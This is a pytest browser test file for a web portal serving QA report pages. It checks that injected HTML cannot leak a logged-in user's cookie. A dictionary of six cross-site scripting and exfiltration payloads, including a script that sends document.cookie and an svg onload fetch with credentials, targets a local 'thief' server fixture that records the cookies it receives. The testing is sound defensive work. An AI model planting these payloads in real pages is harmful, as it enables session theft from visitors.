"""The pages in a real browser: an attack from a QA page, and the way from page to page."""

from __future__ import annotations

import http.server
import threading

import pytest
from fastapi import FastAPI
from fastapi.responses import HTMLResponse
from people import logged_in
from serving import served
from stereo_portal.app import create_app

ATTACKS = {
    "refresh": '<meta http-equiv="refresh" content="0; url={thief}">',
    "script": "<script>location = '{thief}?' + document.cookie</script>",
    "picture": '<img src="{thief}"><link rel="stylesheet" href="{thief}"><iframe src="{thief}"></iframe>',
    "event": "<svg onload=\"fetch('{thief}', {{mode: 'no-cors', credentials: 'include'}})\"></svg>",
    "form": '<form action="{thief}"><button autofocus>send</button></form>',
    "popup": '<a href="{thief}" target="_blank"><h1>click</h1></a>',
}
CLICKS = {"form": "button", "popup": "h1"}


@pytest.fixture
def thief():
    """A server on another port, to which the browser sends the cookies of this host; gives address and what it got."""
    got: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            got.append(self.headers.get("Cookie", ""))
            self.send_response(200)
            self.end_headers()

        def log_message(self, *arguments):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}/", got
    server.shutdown()


@pytest.fixture(scope="module")
def attack() -> list[str]:
    """The page that the next visitor of the unprotected copy gets."""
    return [""]


@pytest.fixture(scope="module")
def site(output, attack):
    """The portal as Airflow mounts it, for somebody who is logged in; gives its address."""
    portal = logged_in(create_app())
    app = FastAPI()
    app.mount("/nights", portal)
    app.get("/unprotected")(lambda: HTMLResponse(attack[0]))
    with served(app) as address:
        yield address


@pytest.fixture
def tab(browser, site):
    """A tab of somebody who is logged in, with what the browser complains about."""
    context = browser.new_context()
    context.add_cookies([{"name": "_token", "value": "secret", "url": site, "httpOnly": False, "sameSite": "Lax"}])
    page = context.new_page()
    yield page
    context.close()


def _visit(tab, address: str, name: str) -> None:
    tab.goto(address)
    if name in CLICKS:
        tab.click(CLICKS[name])
    tab.wait_for_timeout(1000)


@pytest.mark.parametrize("name", ATTACKS)
def test_a_qa_page_does_not_get_the_login_out(tab, site, thief, attack, output, nights, name):
    address, got = thief
    text = f"<html><body>the page {ATTACKS[name].format(thief=address)}</body></html>"
    folder = output / "mcp062" / "CrabNebula" / "QA" / nights["partial"].lst_date
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "report.html").write_text(text)
    _visit(tab, f"{site}/nights/mcp062/CrabNebula/{nights['partial'].lst_date}", name)
    assert "the page" in tab.inner_text("body")
    assert got == []
    attack[0] = text
    _visit(tab, f"{site}/unprotected", name)
    assert any("secret" in cookie for cookie in got), f"without the headers it gets nothing either: {got}"


def test_from_the_list_to_a_night_and_its_page_and_back(tab, site, nights):
    tab.goto(f"{site}/nights/")
    tab.click(f"text={nights['done']}")
    assert f"Night of {nights['done']}" in tab.inner_text("h1")
    tab.click("text=QA page")
    assert "the page" in tab.frame_locator("iframe").locator("body").inner_text()
    tab.click(f"text=Night of {nights['done']}")
    tab.click("text=All nights")
    assert tab.inner_text("h1") == "Nights"
    tab.select_option("select[name=state]", "held")
    tab.click("button")
    assert tab.locator("tbody tr").count() == 2
